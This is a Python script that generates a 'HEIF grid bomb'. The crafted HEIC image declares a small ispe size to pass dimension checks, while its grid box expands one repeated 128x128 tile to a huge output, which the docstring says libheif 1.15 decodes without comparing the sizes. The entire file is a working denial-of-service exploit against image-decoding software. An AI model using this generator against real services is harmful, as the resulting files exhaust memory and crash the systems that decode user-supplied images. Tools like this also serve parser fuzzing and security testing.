#!/usr/bin/env python3
"""HEIF grid bomb: the primary item is a 'grid' whose ispe says SMALLxSMALL (what
heif_image_handle_get_width/height report, so PhotoDecoding's check passes) but whose grid
box says ROWS x COLS tiles and an output of COLS*tile x ROWS*tile; every dimg reference is
the same one 128x128 HEVC tile from tile.heic (heif-enc). libheif 1.15 never compares the
grid's size with ispe: heif_decode_image makes the full-size image.
usage: mkheifgrid.py tile.heic OUT ROWS COLS [SMALL]"""
import struct, sys
src, out, rows, cols = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
small = int(sys.argv[5]) if len(sys.argv) > 5 else 64
data = open(src, "rb").read()

def boxes(b, at=0, end=None):
    end = len(b) if end is None else end
    while at + 8 <= end:
        size, kind = struct.unpack(">I4s", b[at:at + 8])
        yield kind.decode(), at, size
        at += size
def find(b, path, at=0, end=None):
    for kind, a, s in boxes(b, at, end):
        if kind == path[0]:
            body = a + 8 + (4 if kind in ("meta", "iloc", "ipma", "iinf", "pitm", "iref") else 0)
            return (a, s) if len(path) == 1 else find(b, path[1:], body, a + s)
meta = find(data, ["meta"])
ipco = find(data, ["meta", "iprp", "ipco"])
hvcc = None
for kind, a, s in boxes(data, ipco[0] + 8, ipco[0] + ipco[1]):
    if kind == "hvcC": hvcc = data[a:a + s]
tw, th = 128, 128
iloc = find(data, ["meta", "iloc"])
# iloc v0/v1 as heif-enc writes it: offset_size/length_size/base_offset_size nibbles
a = iloc[0] + 8
ver = data[a]; p = a + 4
osz, lsz = data[p] >> 4, data[p] & 15; bsz = data[p + 1] >> 4; p += 2
n = struct.unpack(">H", data[p:p + 2])[0]; p += 2
def rd(sz):
    global p
    v = int.from_bytes(data[p:p + sz], "big") if sz else 0; p += sz; return v
_id = rd(2)
if ver >= 1: rd(2)
rd(2); base = rd(bsz); ext = rd(2); off = rd(osz); ln = rd(lsz)
tile = data[base + off: base + off + ln]

def box(kind, body): return struct.pack(">I4s", 8 + len(body), kind.encode()) + body
def full(kind, v, f, body): return box(kind, bytes([v]) + f.to_bytes(3, "big") + body)
def infe(i, t): return full("infe", 2, 0, struct.pack(">HH4s", i, 0, t.encode()) + b"\x00")
ispe_tile = full("ispe", 0, 0, struct.pack(">II", tw, th))
ispe_small = full("ispe", 0, 0, struct.pack(">II", small, small))
ipco_b = box("ipco", hvcc + ispe_tile + ispe_small)           # 1: hvcC, 2: tile ispe, 3: small ispe
ipma = full("ipma", 0, 0, struct.pack(">I", 2) +
            struct.pack(">HB", 1, 2) + bytes([0x81, 0x02]) +    # tile: hvcC (essential), ispe
            struct.pack(">HB", 2, 1) + bytes([0x03]))           # grid: the small ispe
refs = rows * cols
iref = full("iref", 0, 0, box("dimg", struct.pack(">HH", 2, refs) + struct.pack(">H", 1) * refs))
W, H = cols * tw, rows * th
grid = bytes([0, 1, rows - 1, cols - 1]) + struct.pack(">II", W, H)  # flags 1: 32-bit sizes
def build(mdat_at):
    iloc_b = full("iloc", 0, 0, bytes([0x44, 0x00]) + struct.pack(">H", 2) +
                  struct.pack(">HHHII", 1, 0, 1, mdat_at, len(tile)) +
                  struct.pack(">HHHII", 2, 0, 1, mdat_at + len(tile), len(grid)))
    meta_b = full("meta", 0, 0, full("hdlr", 0, 0, b"\0\0\0\0pict" + b"\0" * 13) + full("pitm", 0, 0, struct.pack(">H", 2)) +
                  iloc_b + full("iinf", 0, 0, struct.pack(">H", 2) + full("infe", 2, 1, struct.pack(">HH4s", 1, 0, b"hvc1") + b"\x00") + infe(2, "grid")) + iref +
                  box("iprp", ipco_b + ipma))
    ftyp = box("ftyp", b"heic" + b"\0\0\0\0" + b"mif1heic")
    return ftyp + meta_b
head = build(0)
head = build(len(head) + 8)
open(out, "wb").write(head + box("mdat", tile + grid))
print(out, len(head) + 8 + len(tile) + len(grid), "bytes; ispe", small, "x", small, "; grid", W, "x", H, "=", W * H // 1_000_000, "MP")
